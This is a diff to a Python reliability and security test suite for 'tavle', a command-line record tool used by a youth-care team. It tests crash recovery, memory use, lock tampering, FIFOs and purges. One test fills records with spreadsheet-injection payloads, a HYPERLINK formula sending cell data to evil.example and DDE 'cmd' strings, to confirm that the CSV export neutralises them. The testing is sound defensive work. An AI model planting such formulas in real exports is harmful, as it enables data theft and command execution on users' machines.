@@ -112,6 +112,9 @@ def concurrency(d, logdir):
             ops.append(dict(proc=p, op=op, youth=youth, field=field, value=value,
                             base=None if base == "-" else int(base), rc=int(rc), out=out))
     entries, torn, bad = journal_entries(d)
+    # A conflict names its author as people know them: the name and initials from team.json.
+    team = json.loads(read(os.path.join(d, "team.json")))
+    initials = {m["id"]: m.get("initials", m["id"]) for m in team.get("staff", [])}
     youths = {}
     for f in youth_files(d):
         youths[f[:-5]] = json.loads(read(os.path.join(d, "youths", f)))
@@ -185,7 +188,7 @@ def concurrency(d, logdir):
         e = by_version.get((o["youth"], v))
         if v <= o["base"] or e is None or not any(c["field"] == "warning" for c in e["changes"]):
             fake_conflicts.append(f"{o['youth']} based on v{o['base']}: conflict names v{v}")
-        elif f"by {e['staff']} " not in o["out"]:
+        elif f"by {e['staff']} " not in o["out"] and f"({initials.get(e['staff'], '?')})" not in o["out"]:
             fake_conflicts.append(f"{o['youth']} v{v}: conflict names the wrong author: {o['out']!r} (journal: {e['staff']})")
     groups = {}
     for o in stale:
@@ -355,7 +358,9 @@ def crash_steps(tavle, d):
         ("team update (staff add)", None, "team.json"),
     ]
     for label, build, target in ops:
-        for sc in ["write", "fsync", "rename", "flock", "unlink", "ftruncate"]:
+        # Files are renamed and removed relative to a directory opened without following links
+        # (renameat, unlinkat); plain rename/unlink are kept in case a build uses them.
+        for sc in ["write", "fsync", "renameat", "rename", "flock", "unlinkat", "unlink", "ftruncate"]:
             for n in range(1, 30):
                 marker = f"Strace {sc} {n}"
                 if label.startswith("team"):
@@ -368,7 +373,7 @@ def crash_steps(tavle, d):
                     cur = json.loads(read(os.path.join(d, "youths/sara.json")))["status"]
                     if status == cur:
                         status = ["worried", "crisis", "stable"][(n + 1) % 3]
-                    argv = ["status", "sara", status, "--if-version", str(v)]
+                    argv = ["status", "sara", status, "--if-version", str(v), "--why", "crash test"]
                     marker = f'"status" : "{status}"'
                 else:
                     argv = build(marker)
@@ -395,17 +400,17 @@ def crash_steps(tavle, d):
                     problems.append(f"{label}, killed at {sc} #{n}: check: {c.stdout.decode(errors='replace')[:300]}")
     figure("crashes: writes killed at a step of the write path (strace inject)", steps)
     figure("crashes: steps by system call", ", ".join(f"{k} {v}" for k, v in sorted(per.items())))
-    result(steps >= 20 and not problems, f"crashes: killed at each of {steps} write-path steps (write/fsync/rename/flock × note, status --if-version, add, staff add): old or new, next writer recovers, check clean",
+    result(steps >= 20 and not problems, f"crashes: killed at each of {steps} write-path steps (write/fsync/renameat/flock/unlinkat × note, status --if-version, add, staff add): old or new, next writer recovers, check clean",
            "; ".join(problems[:4]))
 
     # A crash during recovery: a change is journaled but not renamed (killed at its rename); the
     # next writer, which rolls it forward, is itself killed at each of its steps.
     rsteps = 0
     problems = []
-    for sc in ["rename", "fsync", "write", "unlink", "flock"]:
+    for sc in ["renameat", "fsync", "write", "unlinkat", "flock"]:
         for n in range(1, 20):
             pending = f"pending {sc} {n}"
-            run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", "inject=rename:signal=SIGKILL:when=1",
+            run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", "inject=rename,renameat:signal=SIGKILL:when=1",
                  tavle, "--data", d, "note", "thea", pending])
             if not tmp_left(d):
                 problems.append(f"{sc} #{n}: setting up the pending change left no temp file")
@@ -429,7 +434,7 @@ def crash_steps(tavle, d):
             if r.returncode == 0:
                 break
     figure("crashes: recoveries (roll-forward) killed at a step", rsteps)
-    result(rsteps >= 5 and not problems, f"crashes: a recovering writer killed at each of {rsteps} steps (rename/fsync/write/unlink/flock): old or new, the journaled change is still rolled forward, check clean",
+    result(rsteps >= 5 and not problems, f"crashes: a recovering writer killed at each of {rsteps} steps (renameat/fsync/write/unlinkat/flock): old or new, the journaled change is still rolled forward, check clean",
            "; ".join(problems[:4]))
 
 
@@ -744,6 +749,627 @@ def csv_mutate(tavle, d, work, n):
     result(not crashes, f"CSV import: {n} mutated files (--dry-run): exit 0/1/2 only, no raw control bytes", "; ".join(crashes[:3]))
 
 
+# ---------------------------------------------------------------------------------------------
+# Issue 28, finding 4: the spreadsheet import is all or nothing, whatever stops it.
+
+def import_csv(path, rows, tag):
+    with open(path, "w", encoding="utf-8") as f:
+        f.write("navn;født;kontakt\n")
+        for i in range(rows):
+            f.write(f"Import {tag} {i:05d};01.02.2010;ole\n")
+
+
+def imported(d, tag):
+    n = 0
+    for f in youth_files(d):
+        try:
+            if json.loads(read(os.path.join(d, "youths", f))).get("name", "").startswith(f"Import {tag} "):
+                n += 1
+        except (OSError, ValueError):
+            pass
+    return n
+
+
+def import_kills(tavle, template, work, rounds, rows, big_rows):
+    import shutil
+    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
+    csv = os.path.join(work, "import.csv")
+    import_csv(csv, rows, "Person")
+    # How long a whole import takes here: the kills are spread over it.
+    d = os.path.join(work, "import-timing")
+    shutil.rmtree(d, ignore_errors=True)
+    shutil.copytree(template, d, symlinks=True)
+    t0 = time.time()
+    r = run([tavle, "--data", d, "import", csv], timeout=300)
+    span = time.time() - t0
+    figure(f"import: {rows} rows take", f"{span:.1f} s")
+    if r.returncode != 0 or imported(d, "Person") != rows:
+        result(False, "import: a whole import works", r.stderr.decode(errors="replace"))
+        return
+    problems, outcomes = [], {"none": 0, "all": 0, "finished by the next reader": 0}
+    cases = [("SIGKILL", rnd.uniform(0.05, 1.0) * span) for _ in range(rounds)]
+    # The review's case: an SSH session dropped (SIGHUP) 1 s into an import of 2,000 rows.
+    big = os.path.join(work, "import-big.csv")
+    import_csv(big, big_rows, "Big")
+    cases.append(("SIGHUP", 1.0))
+    # And at the steps that matter (strace): the commit point (the manifest's rename, the first
+    # renameat), after the journal append (the first record's rename), half-way through the
+    # records, at the last, and at the manifest's removal.
+    for k in (1, 2, 3, rows // 2, rows + 1):
+        cases.append(("strace renameat", k))
+    cases.append(("strace unlinkat", 1))
+    for i, (sig, delay) in enumerate(cases):
+        d = os.path.join(work, f"import-kill{i}")
+        shutil.rmtree(d, ignore_errors=True)
+        shutil.copytree(template, d, symlinks=True)
+        f, tag, n = (big, "Big", big_rows) if sig == "SIGHUP" else (csv, "Person", rows)
+        what = f"{sig} #{delay}" if sig.startswith("strace") else f"{sig} after {delay:.2f} s"
+        if sig.startswith("strace"):
+            call = sig.split()[1]
+            run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject={call}:signal=SIGKILL:when={delay}",
+                 tavle, "--data", d, "import", f], timeout=300)
+        else:
+            p = subprocess.Popen([tavle, "--data", d, "import", f], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            time.sleep(delay)
+            p.send_signal(signal.SIGKILL if sig == "SIGKILL" else signal.SIGHUP)
+            p.wait()
+        on_disk = imported(d, tag)
+        pending = os.path.exists(os.path.join(d, "tmp", "transaction.commit"))
+        if on_disk not in (0, n) and not pending:
+            problems.append(f"{what}: {on_disk} of {n} rows imported and nothing to finish them")
+        # The next reader that can write finishes a committed import; then it is all or nothing.
+        lst = run([tavle, "--data", d, "list", "--json"])
+        try:
+            shown = sum(1 for y in json.loads(lst.stdout) if y.get("name", "").startswith(f"Import {tag} "))
+        except ValueError:
+            shown = -1
+        after = imported(d, tag)
+        if shown not in (0, n) or after != shown:
+            problems.append(f"{what}: list shows {shown} of {n} (files: {after})")
+        c = run([tavle, "--data", d, "check"])
+        if c.returncode != 0:
+            problems.append(f"{what}: check: {c.stdout.decode(errors='replace')[:300]}")
+        # Running the same file again: completes it when nothing went in, refuses duplicates when all did.
+        again = run([tavle, "--data", d, "import", f], timeout=300)
+        final = imported(d, tag)
+        if after == 0 and (again.returncode != 0 or final != n):
+            problems.append(f"{what}: the rerun exit {again.returncode}, {final} of {n}: {again.stderr.decode(errors='replace')[:200]}")
+        if after == n and (again.returncode != 2 or final != n):
+            problems.append(f"{what}: the rerun of a complete import exit {again.returncode}, {final} of {n}")
+        if run([tavle, "--data", d, "check"]).returncode != 0:
+            problems.append(f"{what}: check after the rerun is not clean")
+        outcomes["none" if after == 0 else ("finished by the next reader" if on_disk != n else "all")] += 1
+        shutil.rmtree(d, ignore_errors=True)
+    figure("import: imports killed (kill -9 at random, SIGHUP after 1 s of 2,000 rows, strace at renameat/unlinkat)", len(cases))
+    figure("import: outcomes", ", ".join(f"{k} {v}" for k, v in outcomes.items()))
+    result(not problems, f"import: {len(cases)} imports killed (kill -9, SIGHUP): all rows or none, a rerun completes, check clean",
+           "; ".join(problems[:4]))
+
+
+# ---------------------------------------------------------------------------------------------
+# Issue 28, findings 13 and 14: a journal past 1 GiB, and what the heavy commands hold in memory.
+
+def big_journal(d, megabytes, youth="sofie"):
+    """Grows the journal to `megabytes` with real changes to one youth's goals (about 8 KB each),
+    and writes the youth's file to match, so the directory stays consistent (`check` clean)."""
+    path = os.path.join(d, "youths", youth + ".json")
+    y = json.loads(read(path))
+    v = y["version"]
+    jpath = os.path.join(d, "journal.jsonl")
+    size = os.path.getsize(jpath)
+    goal = megabytes * 1024 * 1024
+    old = y.get("goals", "")
+    n = 0
+    with open(jpath, "ab") as f:
+        while size < goal:
+            v += 1
+            n += 1
+            new = f"Mål {n}: " + ("skole og venner, søvn og mat. " * 280)
+            e = {"schema": 1, "at": "2026-11-20T10:00:00+01:00", "staff": "ole", "user": "ole", "target": "youth", "id": youth,
+                 "version": v, "action": "set goals", "changes": [{"field": "goals", "op": "set", "old": old, "new": new}]}
+            line = (json.dumps(e, ensure_ascii=False, sort_keys=True, separators=(",", ":")) + "\n").encode()
+            f.write(line)
+            size += len(line)
+            old = new
+    y["goals"] = old
+    y["version"] = v
+    y.setdefault("fieldVersions", {})["goals"] = v
+    y.setdefault("fieldAuthors", {})["goals"] = "ole"
+    with open(path, "w", encoding="utf-8") as f:
+        json.dump(y, f, ensure_ascii=False, indent=2, sort_keys=True)
+    idx = os.path.join(d, "index.json")
+    if os.path.exists(idx):
+        os.unlink(idx)
+    return n
+
+
+def memory(tavle, d, megabytes, limit_mb, work):
+    added = big_journal(d, megabytes)
+    size = os.path.getsize(os.path.join(d, "journal.jsonl"))
+    figure("memory: journal size", f"{size / 1024 / 1024:.0f} MB ({added} changes of about 8 KB added to one youth)")
+    # Each command alone, under /usr/bin/time -v: its peak resident memory.
+    cmds = [("check", ["check"]), ("log", ["log"]), ("log ID", ["log", "sofie"]),
+            ("stats", ["stats"]), ("purge --dry-run", ["purge", "--dry-run"]), ("backup", ["backup", os.path.join(work, "big.backup")]),
+            ("list", ["list"])]
+    # `log --json` streams as `log` does; on a debug build it takes minutes here, so only on request.
+    if os.environ.get("REL_MEM_JSON"):
+        cmds.insert(3, ("log --json", ["log", "--json"]))
+    problems = []
+    for label, argv in cmds:
+        t0 = time.time()
+        r = run(["/usr/bin/time", "-v", tavle, "--data", d] + argv, timeout=1800)
+        secs = time.time() - t0
+        m = re.search(rb"Maximum resident set size \(kbytes\): (\d+)", r.stderr)
+        mb = int(m.group(1)) / 1024 if m else -1
+        figure(f"memory: peak RSS of `{label}` on it", f"{mb:.0f} MB in {secs:.0f} s")
+        if r.returncode != 0:
+            problems.append(f"{label}: exit {r.returncode}: {r.stderr.decode(errors='replace')[-300:]}")
+        if mb < 0 or mb > limit_mb:
+            problems.append(f"{label}: peak {mb:.0f} MB (limit {limit_mb} MB)")
+    result(not problems, f"memory: {', '.join(c[0] for c in cmds)} on a {size // (1 << 20)} MB journal each exit 0 with a peak RSS of at most {limit_mb} MB",
+           "; ".join(problems[:4]))
+    # The backup holds the whole journal, and restores byte for byte.
+    b = os.path.join(work, "big.backup")
+    r = run([tavle, "--data", os.path.join(work, "big-restored"), "restore", b], timeout=1800)
+    same = r.returncode == 0 and sha(os.path.join(work, "big-restored", "journal.jsonl")) == sha(os.path.join(d, "journal.jsonl"))
+    result(same, f"backup: a journal of {size // (1 << 20)} MB (past 1 GiB) is backed up and restored byte for byte",
+           f"restore exit {r.returncode}: {r.stderr.decode(errors='replace')[-300:]}")
+    import shutil
+    shutil.rmtree(os.path.join(work, "big-restored"), ignore_errors=True)
+    try:
+        os.unlink(b)
+    except OSError:
+        pass
+
+
+# ---------------------------------------------------------------------------------------------
+# Issue 28: the store under attack and accident (one case or more per finding).
+
+def plant_change(d, target, rid, changes, action="set"):
+    """Appends a journal entry for `changes` and applies them to the record's file, as tavle
+    would (version + 1, field versions), so the directory stays consistent."""
+    path = os.path.join(d, "team.json") if target == "team" else os.path.join(d, "youths", rid + ".json")
+    obj = json.loads(read(path))
+    v = obj["version"] + 1
+    for c in changes:
+        if c["op"] == "set":
+            c.setdefault("old", obj.get(c["field"]))
+            if c["old"] is None:
+                c.pop("old")
+            obj[c["field"]] = c["new"]
+        else:
+            obj[c["field"]] = obj.get(c["field"], []) + c["new"]
+        if target == "youth":
+            obj.setdefault("fieldVersions", {})[c["field"]] = v
+            obj.setdefault("fieldAuthors", {})[c["field"]] = "ingrid"
+    obj["version"] = v
+    e = {"schema": 1, "at": "2026-11-20T10:00:00+01:00", "staff": "ingrid", "user": "ingrid", "target": target, "id": rid,
+         "version": v, "action": action, "changes": changes}
+    with open(os.path.join(d, "journal.jsonl"), "ab") as f:
+        f.write((json.dumps(e, ensure_ascii=False, sort_keys=True, separators=(",", ":")) + "\n").encode())
+    with open(path, "w", encoding="utf-8") as f:
+        json.dump(obj, f, ensure_ascii=False, indent=2, sort_keys=True)
+    idx = os.path.join(d, "index.json")
+    if os.path.exists(idx):
+        os.unlink(idx)
+
+
+def fresh_copy(template, work, name):
+    import shutil
+    d = os.path.join(work, name)
+    shutil.rmtree(d, ignore_errors=True)
+    shutil.copytree(template, d, symlinks=True)
+    return d
+
+
+def lock_removal(tavle, template, work, writers, notes):
+    """Finding 1: `rm -f lock` (and a new file put in its place) in a loop beside writers."""
+    import threading
+    d = fresh_copy(template, work, "lock-removal")
+    lock = os.path.join(d, "lock")
+    stop = threading.Event()
+    removals = [0]
+
+    def remover():
+        i = 0
+        while not stop.is_set():
+            try:
+                if i % 2:
+                    os.unlink(lock)
+                else:
+                    tmp = lock + ".new"
+                    os.close(os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600))
+                    os.rename(tmp, lock)
+                removals[0] += 1
+            except OSError:
+                pass
+            i += 1
+            time.sleep(0.002)
+
+    def writer(p, out):
+        for i in range(notes):
+            y = ["sofie", "noah"][i % 2]
+            text = f"lockrm {p}-{i}"
+            r = run([tavle, "--data", d, "note", y, text])
+            out.append((y, text, r.returncode, r.stderr.decode(errors="replace")))
+
+    t = threading.Thread(target=remover)
+    t.start()
+    logs = [[] for _ in range(writers)]
+    ths = [threading.Thread(target=writer, args=(p, logs[p])) for p in range(writers)]
+    for th in ths:
+        th.start()
+    for th in ths:
+        th.join()
+    stop.set()
+    t.join()
+    ok = [x for log in logs for x in log if x[2] == 0]
+    failed = [x for log in logs for x in log if x[2] != 0]
+    texts = {}
+    for y in ("sofie", "noah"):
+        texts[y] = {n.get("text") for n in json.loads(read(os.path.join(d, "youths", y + ".json"))).get("notes", [])}
+    lost = [x for x in ok if x[1] not in texts[x[0]]]
+    entries, _, _ = journal_entries(d)
+    seen, twice = set(), []
+    for e in entries:
+        k = (e["target"], e["id"], e["version"])
+        if k in seen:
+            twice.append(k)
+        seen.add(k)
+    c = run([tavle, "--data", d, "check"])
+    figure("lock removal: writes beside a loop removing or replacing `lock`", f"{len(ok) + len(failed)} ({removals[0]} removals)")
+    result(not lost and not twice and not failed and c.returncode == 0,
+           f"lock removal: {writers} writers × {notes} notes while `lock` is removed or replaced in a loop: every write saved once, no version journaled twice, check clean",
+           f"{len(lost)} saved notes lost, {len(twice)} versions twice {twice[:3]}, {len(failed)} failed {[x[3][:100] for x in failed[:2]]}, check {c.returncode}: {c.stdout.decode(errors='replace')[:200]}")
+
+
+def numbers(tavle, template, work):
+    """Finding 3: one number out of range crashed tavle with a Swift trap."""
+    plants = [("team.json", "targetBoardShare", 1e308, ["list", "due", "stats", "board"]),
+              ("team.json", "boardShareWarning", -0.5, ["list"]),
+              ("team.json", "meetingMinutes", 9223372036854775807, ["meeting status", "meeting start", "list"]),
+              ("team.json", "retentionMonths", 9223372036854775807, ["purge --dry-run", "list"]),
+              ("team.json", "rules.boardPeriodDays", 9223372036854775807, ["list", "intensive thea --reason crisis"]),
+              ("youths/sofie.json", "version", 9223372036854775807, ["note sofie x", "show sofie", "status sofie stable"]),
+              ("youths/sofie.json", "fieldVersions.status", -1, ["show sofie"])]
+    problems, n = [], 0
+    for rel, key, value, cmds in plants:
+        d = fresh_copy(template, work, "numbers")
+        path = os.path.join(d, rel)
+        obj = json.loads(read(path))
+        target = obj
+        parts = key.split(".")
+        for k in parts[:-1]:
+            target = target.setdefault(k, {})
+        target[parts[-1]] = value
+        with open(path, "w") as f:
+            json.dump(obj, f, indent=2)
+        before = sha(path)
+        for c in cmds:
+            n += 1
+            r = run([tavle, "--data", d] + c.split(), timeout=20)
+            err = r.stderr.decode(errors="replace")
+            if r.returncode != 2 or os.path.basename(rel) not in err or parts[-1] not in err:
+                problems.append(f"{key}={value}: `{c}` exit {r.returncode}: {err[:120]!r}")
+        if sha(path) != before:
+            problems.append(f"{rel} was written back")
+    # A number a user types that would overflow a sum: refused.
+    d = fresh_copy(template, work, "numbers")
+    run([tavle, "--data", d, "meeting", "start"])
+    for _ in range(2):
+        r = run([tavle, "--data", d, "meeting", "discuss", "sofie", "--seconds", "9223372036854775807"])
+        n += 1
+        if r.returncode not in (1, 2):
+            problems.append(f"meeting discuss --seconds Int64.max: exit {r.returncode}")
+    r = run([tavle, "--data", d, "meeting", "status"])
+    if r.returncode != 0:
+        problems.append(f"meeting status after: exit {r.returncode}")
+    figure("numbers: out-of-range values × commands", n)
+    result(not problems, f"numbers: {n} commands on files with a number out of range (1e308, Int64.max, negative): exit 2 naming the file and field, never a trap, never written back",
+           "; ".join(problems[:4]))
+
+
+def check_beside_writers(tavle, template, work, checks):
+    """Finding 5: `tavle check` beside two writers must raise no false alarm."""
+    d = fresh_copy(template, work, "check-writers")
+    procs = [subprocess.Popen(["bash", "-c", f'for i in $(seq 400); do "$0" --data "$1" note {y} "w $i" >/dev/null 2>&1; done', tavle, d])
+             for y in ("sofie", "noah")]
+    time.sleep(0.3)
+    alarms, runs = [], 0
+    while runs < checks and all(p.poll() is None for p in procs):
+        r = run([tavle, "--data", d, "check"])
+        runs += 1
+        if r.returncode != 0:
+            alarms.append(r.stdout.decode(errors="replace").splitlines()[1:2])
+    for p in procs:
+        p.kill()
+        p.wait()
+    c = run([tavle, "--data", d, "check"])
+    figure("check beside two writers: runs", runs)
+    result(runs >= 10 and not alarms and c.returncode == 0,
+           f"check: {runs} runs beside two writers: no false alarm (what looks wrong is read again under the lock)",
+           f"{len(alarms)} false alarms: {alarms[:3]}")
+    # Still finds a real disagreement.
+    d = fresh_copy(template, work, "check-real")
+    path = os.path.join(d, "youths", "thea.json")
+    obj = json.loads(read(path))
+    obj["warning"] = "changed by hand"
+    with open(path, "w") as f:
+        json.dump(obj, f, indent=2)
+    r = run([tavle, "--data", d, "check"])
+    result(r.returncode == 2 and b"thea.json" in r.stdout and b"warning" in r.stdout,
+           "check: a file changed by hand is still reported (under the lock)", r.stdout.decode(errors="replace")[:200])
+
+
+def fifos(tavle, template, work):
+    """Finding 6: a FIFO planted as journal.jsonl or access.jsonl must not hang tavle."""
+    problems = []
+    d = fresh_copy(template, work, "fifo")
+    os.rename(os.path.join(d, "journal.jsonl"), os.path.join(d, "journal.saved"))
+    os.mkfifo(os.path.join(d, "journal.jsonl"))
+    t0 = time.time()
+    r = run([tavle, "--data", d, "note", "sofie", "into a fifo"], timeout=8)
+    if r.returncode in (0, -999) or b"journal.jsonl" not in r.stderr:
+        problems.append(f"journal FIFO: note exit {r.returncode} after {time.time() - t0:.1f} s: {r.stderr[:150]!r}")
+    t1 = time.time()
+    r = run([tavle, "--data", d, "note", "noah", "next writer"], timeout=8)
+    if r.returncode == -999 or b"lock" in r.stderr or time.time() - t1 > 5:
+        problems.append(f"journal FIFO: the next writer waited for the lock: exit {r.returncode} {r.stderr[:150]!r}")
+    d = fresh_copy(template, work, "fifo")
+    os.mkfifo(os.path.join(d, "access.jsonl"))
+    r = run([tavle, "--data", d, "show", "sofie"], timeout=8)
+    if r.returncode == -999:
+        problems.append("access-log FIFO: show hung")
+    r = run([tavle, "--data", d, "log", "--access"], timeout=8)
+    if r.returncode == -999:
+        problems.append("access-log FIFO: log --access hung")
+    result(not problems, "FIFO as journal.jsonl / access.jsonl: writers fail at once naming it, the lock is free, readers never hang",
+           "; ".join(problems[:3]))
+
+
+def size_limit(tavle, template, work):
+    """Finding 7: a note that would take a youth past 16 MiB is refused before it is written."""
+    d = fresh_copy(template, work, "size-limit")
+    path = os.path.join(d, "youths", "thea.json")
+    big = "y" * (16 * 1024 * 1024 - os.path.getsize(path) - 200_000)
+    plant_change(d, "youth", "thea", [{"field": "notes", "op": "append",
+                                       "new": [{"id": "big1", "at": "2026-11-20T10:00:00+01:00", "author": "ole", "kind": "note", "text": big}]}],
+                 action="note")
+    chunk = "x" * 120_000
+    outcomes = []
+    for _ in range(3):
+        before = sha(path)
+        r = run([tavle, "--data", d, "note", "thea", chunk])
+        outcomes.append(r.returncode)
+        if r.returncode != 0:
+            unchanged = sha(path) == before
+            break
+    s = run([tavle, "--data", d, "show", "thea"])
+    c = run([tavle, "--data", d, "check"])
+    ok = outcomes[-1] == 2 and unchanged and s.returncode == 0 and c.returncode == 0 and os.path.getsize(path) <= 16 * 1024 * 1024
+    result(ok, "size limit: a note that would take a youth's file past 16 MiB is refused (exit 2), nothing written; show and check still work",
+           f"note exits {outcomes}, show {s.returncode}, check {c.returncode}: {c.stdout.decode(errors='replace')[:150]}")
+
+
+def csv_formulas(tavle, template, work):
+    """Finding 8: CSV export must not hand a spreadsheet a live formula (CWE-1236)."""
+    import csv as csvmod, io
+    d = fresh_copy(template, work, "csv-formulas")
+    r = run([tavle, "--data", d, "add", "--name", '=HYPERLINK("http://evil.example/?"&A1,"Klikk") Hansen', "--born", "2010-01-01"])
+    yid = r.stdout.decode().strip()
+    run([tavle, "--data", d, "set", yid, "warning", "+cmd|' /C calc'!A0"])
+    run([tavle, "--data", d, "set", "noah", "warning", "@SUM(1+1)*cmd|' /C calc'!A0"])
+    run([tavle, "--data", d, "set", "sofie", "warning", "--", "-2+3+cmd|' /C calc'!A0"])
+    live, cells = [], 0
+    for lang, sep in (("nb", ";"), ("en", ",")):
+        for names in ([], ["--names"]):
+            out = run([tavle, "--data", d, "--lang", lang, "export", "--format", "csv"] + names).stdout.decode()
+            for row in csvmod.reader(io.StringIO(out), delimiter=sep):
+                for cell in row:
+                    cells += 1
+                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                        live.append(cell[:40])
+    result(cells > 200 and not live, f"CSV export: {cells} cells (nb/en, with and without --names), none starts a formula (= + - @ tab CR)",
+           f"live formulas: {live[:4]}")
+
+
+def purge_kills(tavle, template, work):
+    """Finding 9: purge killed at each of its removals, or failing its last fsync."""
+    problems, steps = [], 0
+    shim = os.path.join(work, "faultshim.so")
+
+    def purgeable(name):
+        d = fresh_copy(template, work, name)
+        plant_change(d, "youth", "oskar", [{"field": "phase", "op": "set", "new": "discharged"},
+                                           {"field": "discharged", "op": "set", "new": "2025-09-01"}], action="discharge")
+        run([tavle, "--data", d, "list"])          # an index holding Oskar's name
+        return d
+
+    def holding(d):
+        out = []
+        for root, _, files in os.walk(d):
+            for f in files:
+                try:
+                    if b"Brekke" in read(os.path.join(root, f)):
+                        out.append(os.path.relpath(os.path.join(root, f), d))
+                except OSError:
+                    pass
+        return sorted(out)
+
+    for k in range(1, 12):
+        d = purgeable(f"purge-kill{k}")
+        r = run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject=unlinkat,unlink:signal=SIGKILL:when={k}",
+                 tavle, "--data", d, "purge", "--yes", "oskar"])
+        done = r.returncode == 0
+        if not done:
+            steps += 1
+        purged = b'"action":"purge"' in read(os.path.join(d, "journal.jsonl"))
+        left = holding(d)
+        if purged and "index.json" in left:
+            problems.append(f"killed at removal #{k}: the journal is purged but index.json still holds the name")
+        c = run([tavle, "--data", d, "check"])
+        if purged and "youths/oskar.json" in left and (c.returncode != 2 or b"oskar.json" not in c.stdout):
+            problems.append(f"killed at removal #{k}: check does not name the purged youth's file left behind")
+        run([tavle, "--data", d, "note", "noah", f"after purge kill {k}"])
+        run([tavle, "--data", d, "list"])
+        if purged and holding(d):
+            problems.append(f"killed at removal #{k}: after the next writer the name is still in {holding(d)}")
+        if run([tavle, "--data", d, "check"]).returncode != 0:
+            problems.append(f"killed at removal #{k}: check not clean after the next writer")
+        if done:
+            break
+    figure("purge: purges killed at a file removal (strace)", steps)
+    # The final fsync fails: the message must say the purge happened.
+    d = purgeable("purge-fsync")
+    r = run([tavle, "--data", d, "purge", "--yes", "oskar"], env=dict(os.environ, LD_PRELOAD=shim, TAVLE_FAULT=f"fsync:EIO:{d}/youths"))
+    err = r.stderr.decode(errors="replace")
+    if r.returncode != 4 or "Nothing was changed" in err or "Do not make the change again" not in err:
+        problems.append(f"fsync of youths/ failing: exit {r.returncode}, says: {err[:200]}")
+    if holding(d):
+        problems.append(f"fsync of youths/ failing: the name is still in {holding(d)}")
+    result(not problems and steps >= 3, f"purge: killed at each of {steps} file removals and with its last fsync failing: the index never keeps a purged name, messages tell the truth, the next writer finishes, check clean",
+           "; ".join(problems[:4]))
+
+
+def migrate_kills(tavle, fixture, work, rounds):
+    """Finding 10: an interrupted migrate and its rerun must never overwrite the backup of the
+    directory as it was before any upgrade."""
+    import shutil, pwd
+    me = pwd.getpwuid(os.geteuid()).pw_name
+    tpl = os.path.join(work, "schema1")
+    shutil.rmtree(tpl, ignore_errors=True)
+    shutil.copytree(fixture, tpl)
+    os.chmod(tpl, 0o700)
+    os.makedirs(os.path.join(tpl, "tmp"), mode=0o700, exist_ok=True)
+    for root, dirs, files in os.walk(tpl):
+        for x in dirs:
+            os.chmod(os.path.join(root, x), 0o700)
+        for x in files:
+            os.chmod(os.path.join(root, x), 0o600)
+    team = json.loads(read(os.path.join(tpl, "team.json")))
+    staff = team["staff"]
+    for m in staff:
+        if m["id"] == "ingrid":
+            m["unixUsers"] = m["unixUsers"] + [me]
+    plant_change(tpl, "team", "team", [{"field": "staff", "op": "set", "new": staff}], action="staff unix-user")
+    originals = {rel: sha(os.path.join(tpl, rel)) for rel in ["team.json"] + ["youths/" + f for f in youth_files(tpl)]}
+    t0 = time.time()
+    d = fresh_copy(tpl, work, "migrate-timing")
+    run([tavle, "--data", d, "migrate"])
+    span = max(time.time() - t0, 0.05)
+    rnd = random.Random(int(os.environ.get("REL_SEED", "6")))
+    cases = [("random", rnd.uniform(0.1, 1.0) * span) for _ in range(rounds)] + [("fsync", k) for k in range(1, 9)]
+    problems, interrupted = [], 0
+    for i, (how, arg) in enumerate(cases):
+        d = fresh_copy(tpl, work, f"migrate{i}")
+        if how == "random":
+            p = subprocess.Popen([tavle, "--data", d, "migrate"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            time.sleep(arg)
+            p.kill()
+            p.wait()
+            killed = p.returncode != 0
+        else:
+            r = run(["strace", "-f", "-qq", "-o", "/dev/null", "-e", f"inject=fsync:signal=SIGKILL:when={arg}", tavle, "--data", d, "migrate"])
+            killed = r.returncode != 0
+        interrupted += 1 if killed else 0
+        again = run([tavle, "--data", d, "migrate"])
+        if again.returncode != 0:
+            problems.append(f"{how} {arg}: the rerun exit {again.returncode}: {again.stderr.decode(errors='replace')[:150]}")
+            continue
+        bdir = os.path.join(d, "backups")
+        def order(n):
+            m = re.search(r"\d{4}-\d\d-\d\d(?:-(\d+))?\.json$", n)
+            return int(m.group(1) or 1) if m else 0
+        backups = sorted(os.listdir(bdir), key=order) if os.path.isdir(bdir) else []
+        if not backups:
+            problems.append(f"{how} {arg}: no backup at all")
+            continue
+        back = os.path.join(work, f"migrate-back{i}")
+        shutil.rmtree(back, ignore_errors=True)
+        rr = run([tavle, "--data", back, "restore", os.path.join(bdir, backups[0])])
+        got = {rel: sha(os.path.join(back, rel)) for rel in originals}
+        if rr.returncode != 0 or got != originals:
+            problems.append(f"{how} {arg}: the first backup ({backups[0]} of {backups}) is not the directory before the upgrade")
+        if run([tavle, "--data", d, "check"]).returncode != 0:
+            problems.append(f"{how} {arg}: check not clean after the rerun")
+        shutil.rmtree(back, ignore_errors=True)
+        shutil.rmtree(d, ignore_errors=True)
+    figure("migrate: runs interrupted (kill -9 at random, strace at each fsync) and run again", f"{interrupted} of {len(cases)}")
+    result(not problems and interrupted >= 5, f"migrate: {interrupted} interrupted runs, each run again: the first backup always restores the directory as it was before any upgrade, check clean",
+           "; ".join(problems[:4]))
+
+
+def shared(tavle, template, work):
+    """Finding 11: --shared is honoured by the board or refused, never ignored."""
+    d = fresh_copy(template, work, "shared")
+    before = sha(os.path.join(d, "journal.jsonl"))
+    problems, n = [], 0
+    for c in ["--shared list", "list --shared", "--shared list --json", "--shared due", "--shared today", "--shared show sofie",
+              "--shared show sofie --all", "--shared export --format csv --names", "--shared log", "--shared stats",
+              "--shared staff list", "note --shared sofie x", "--shared meeting status"]:
+        n += 1
+        r = run([tavle, "--data", d] + c.split())
+        if r.returncode != 1 or b"Sofie Bakke" in r.stdout + r.stderr:
+            problems.append(f"`{c}`: exit {r.returncode}, full name shown: {b'Sofie Bakke' in r.stdout}")
+    r = run([tavle, "--data", d, "--shared"])
+    if r.returncode != 0 or b"Sofie Bakke" in r.stdout or b"SB" not in r.stdout:
+        problems.append(f"`tavle --shared` on a pipe: exit {r.returncode}")
+    if sha(os.path.join(d, "journal.jsonl")) != before:
+        problems.append("something was written")
